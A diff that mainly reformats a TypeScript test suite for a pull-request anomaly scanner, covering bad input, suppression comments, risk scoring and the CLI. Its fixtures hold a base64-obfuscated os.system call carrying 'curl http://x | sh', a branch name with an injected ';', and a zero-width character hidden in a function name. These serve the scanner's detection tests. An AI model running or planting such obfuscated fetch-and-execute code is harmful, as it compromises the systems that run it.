@@ -17,18 +17,38 @@ import { noise } from './corpus/cases';
 const scan = async (base: Files, head: Files, extra: Partial<ScanOptions> = {}) => {
   const r = buildRepo(base, head);
   try {
-    return await scanPr({ repo: r.dir, base: r.base, head: r.head, meta: {}, trustedOrgs: [], allow: [], configPath: '.github/security-actions.yml', today: '2026-06-01', ...extra });
+    return await scanPr({
+      repo: r.dir,
+      base: r.base,
+      head: r.head,
+      meta: {},
+      trustedOrgs: [],
+      allow: [],
+      configPath: '.github/security-actions.yml',
+      today: '2026-06-01',
+      ...extra
+    });
   } finally {
     r.cleanup();
   }
 };
-const ids = (res: Awaited<ReturnType<typeof scanPr>>) => res.findings.filter((f) => !f.suppression).map((f) => f.ruleId);
+const ids = (res: Awaited<ReturnType<typeof scanPr>>) =>
+  res.findings.filter((f) => !f.suppression).map((f) => f.ruleId);
 
 describe('bad input', () => {
   it('a directory that is not a git checkout: one line, diff checks not checked, metadata still checked', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'not-git-'));
     try {
-      const res = await scanPr({ repo: dir, base: 'main', head: 'HEAD', meta: { headRef: 'a;b' }, trustedOrgs: [], allow: [], configPath: 'c', today: '2026-06-01' });
+      const res = await scanPr({
+        repo: dir,
+        base: 'main',
+        head: 'HEAD',
+        meta: { headRef: 'a;b' },
+        trustedOrgs: [],
+        allow: [],
+        configPath: 'c',
+        today: '2026-06-01'
+      });
       expect(res.errors).toHaveLength(1);
       expect(res.errors![0]).toMatch(/is not a git checkout/);
       expect(res.notChecked.map((n) => n.check)).toContain('binary');
@@ -43,7 +63,16 @@ describe('bad input', () => {
     const clone = mkdtempSync(join(tmpdir(), 'shallow-'));
     try {
       execFileSync('git', ['clone', '-q', '--depth', '1', '--branch', 'pr', `file://${r.dir}`, clone]);
-      const res = await scanPr({ repo: clone, base: r.base, head: 'HEAD', meta: {}, trustedOrgs: [], allow: [], configPath: 'c', today: '2026-06-01' });
+      const res = await scanPr({
+        repo: clone,
+        base: r.base,
+        head: 'HEAD',
+        meta: {},
+        trustedOrgs: [],
+        allow: [],
+        configPath: 'c',
+        today: '2026-06-01'
+      });
       expect(res.errors![0]).toMatch(/not in the checkout \(shallow clone: check out with fetch-depth: 0\)/);
     } finally {
       r.cleanup();
@@ -66,7 +95,12 @@ describe('bad input', () => {
         'src/evil.py': 'def ad\u200bmin(): pass\n'
       }
     );
-    expect(res.errors).toEqual(expect.arrayContaining([expect.stringMatching(/^\.github\/workflows\/bad\.yml:\d+: invalid YAML/), expect.stringMatching(/^requirements\.txt:2: /)]));
+    expect(res.errors).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^\.github\/workflows\/bad\.yml:\d+: invalid YAML/),
+        expect.stringMatching(/^requirements\.txt:2: /)
+      ])
+    );
     expect(ids(res)).toContain('unicode/invisible-character');
     expect(ids(res)).not.toContain('unicode/homoglyph');
   });
@@ -87,7 +121,10 @@ describe('bad input', () => {
   });
 
   it('renames, deletions and mode changes', async () => {
-    const res = await scan({ 'tools/run.sh': 'echo hi\n', 'old.py': 'x = 1\n', 'gone.txt': 'bye\n' }, { 'tools/run.sh': 'echo hi\n', 'new.py': 'x = 1\n', 'old.py': null, 'gone.txt': null });
+    const res = await scan(
+      { 'tools/run.sh': 'echo hi\n', 'old.py': 'x = 1\n', 'gone.txt': 'bye\n' },
+      { 'tools/run.sh': 'echo hi\n', 'new.py': 'x = 1\n', 'old.py': null, 'gone.txt': null }
+    );
     expect(res.errors).toEqual([]);
     expect(res.stats?.['files changed']).toBe(2);
   });
@@ -97,14 +134,22 @@ describe('suppressions', () => {
   const payload = Buffer.from(Array.from({ length: 180 }, (_, i) => i)).toString('base64');
 
   it('an inline ignore with a reason suppresses the finding on the next line and is itself reported', async () => {
-    const res = await scan({}, { 'src/m.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] test vector from RFC 4648\nV = "${payload}"\n` });
+    const res = await scan(
+      {},
+      {
+        'src/m.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] test vector from RFC 4648\nV = "${payload}"\n`
+      }
+    );
     const f = res.findings.find((x) => x.ruleId === 'obfuscation/long-encoded-literal')!;
     expect(f.suppression).toEqual({ kind: 'inSource', reason: 'test vector from RFC 4648', source: 'src/m.py:1' });
     expect(ids(res)).toContain('meta/suppression-added');
   });
 
   it('an inline ignore without a reason is not applied', async () => {
-    const res = await scan({}, { 'src/m.py': `V = "${payload}"  # pr-anomaly-scan: ignore[obfuscation/long-encoded-literal]\n` });
+    const res = await scan(
+      {},
+      { 'src/m.py': `V = "${payload}"  # pr-anomaly-scan: ignore[obfuscation/long-encoded-literal]\n` }
+    );
     expect(ids(res)).toContain('obfuscation/long-encoded-literal');
     expect(res.notes!.join('\n')).toMatch(/without a reason is not applied/);
   });
@@ -114,14 +159,18 @@ describe('suppressions', () => {
     const sha256 = createHash('sha256').update(blob).digest('hex');
     const head = { 'tests/files/good.xz': blob, 'tests/test_x.py': 'def test(): pass\n' };
     const ok = await scan({}, head, { allow: [{ sha256, reason: 'generated by make_fixtures.py' }] });
-    expect(ok.findings.find((f) => f.ruleId === 'binary/compressed-test-data')?.suppression?.reason).toBe('generated by make_fixtures.py');
+    expect(ok.findings.find((f) => f.ruleId === 'binary/compressed-test-data')?.suppression?.reason).toBe(
+      'generated by make_fixtures.py'
+    );
     const expired = await scan({}, head, { allow: [{ sha256, reason: 'r', expires: '2026-01-01' }] });
     expect(ids(expired)).toContain('binary/compressed-test-data');
     expect(expired.notes!.join('\n')).toMatch(/expired on 2026-01-01/);
   });
 
   it('validates the config section', () => {
-    expect(() => parseSection({ allow: [{ sha256: 'abc', reason: 'x' }] }, 'cfg.yml')).toThrow('cfg.yml: pr-anomaly-scan.allow.0.sha256 must be 64 lower-case hex digits');
+    expect(() => parseSection({ allow: [{ sha256: 'abc', reason: 'x' }] }, 'cfg.yml')).toThrow(
+      'cfg.yml: pr-anomaly-scan.allow.0.sha256 must be 64 lower-case hex digits'
+    );
     expect(() => parseSection({ allow: [{ sha256: 'a'.repeat(64) }] }, 'cfg.yml')).toThrow(/reason is required/);
     expect(() => parseSection({ ignore: [] }, 'cfg.yml')).toThrow(/unknown key 'ignore'/);
   });
@@ -130,16 +179,27 @@ describe('suppressions', () => {
 describe('risk score', () => {
   it('one long literal in a notebook is weak; a payload that reaches a shell is strong', async () => {
     const png = Buffer.from('x'.repeat(400)).toString('base64');
-    const weak = await scan({}, { 'nb.ipynb': JSON.stringify({ cells: [{ outputs: [{ data: { 'text/plain': png } }] }] }, null, 1) });
+    const weak = await scan(
+      {},
+      { 'nb.ipynb': JSON.stringify({ cells: [{ outputs: [{ data: { 'text/plain': png } }] }] }, null, 1) }
+    );
     expect(ids(weak)).toEqual(['obfuscation/long-encoded-literal']);
     expect(weak.score.score).toBeLessThan(1);
-    const strong = await scan({}, { 'src/pkg/_x.py': `import base64, os\nos.system(base64.b64decode("${Buffer.from('curl http://x | sh; '.repeat(12)).toString('base64')}"))\n` });
+    const strong = await scan(
+      {},
+      {
+        'src/pkg/_x.py': `import base64, os\nos.system(base64.b64decode("${Buffer.from('curl http://x | sh; '.repeat(12)).toString('base64')}"))\n`
+      }
+    );
     expect(strong.score.score).toBeGreaterThanOrEqual(5);
     expect(strong.score.chains).toContain('obfuscated data reaches code execution');
   });
 
   it('caps many weak findings', () => {
-    const weak = Array.from({ length: 50 }, () => ({ ruleId: 'deps/new-dependency', severity: 'info', confidence: 'high' }) as never);
+    const weak = Array.from(
+      { length: 50 },
+      () => ({ ruleId: 'deps/new-dependency', severity: 'info', confidence: 'high' }) as never
+    );
     expect(riskScore(weak).score).toBeLessThan(2);
   });
 });
@@ -150,7 +210,12 @@ describe('sp-security pr-scan', () => {
     try {
       let out = '';
       let err = '';
-      const code = await main(['pr-scan', '--base', r.base, '--head', r.head, '--repo', r.dir], { out: (s) => (out += s), err: (s) => (err += `${s}\n`), env: { PATH: process.env.PATH }, cwd: r.dir });
+      const code = await main(['pr-scan', '--base', r.base, '--head', r.head, '--repo', r.dir], {
+        out: (s) => (out += s),
+        err: (s) => (err += `${s}\n`),
+        env: { PATH: process.env.PATH },
+        cwd: r.dir
+      });
       expect(out).toMatch(/HIGH\s+meta\/ide-autorun\s+\.vscode\/tasks\.json:1/);
       expect(out).toMatch(/NOT CHECKED account-age: no token given/);
       expect(code).toBe(1);
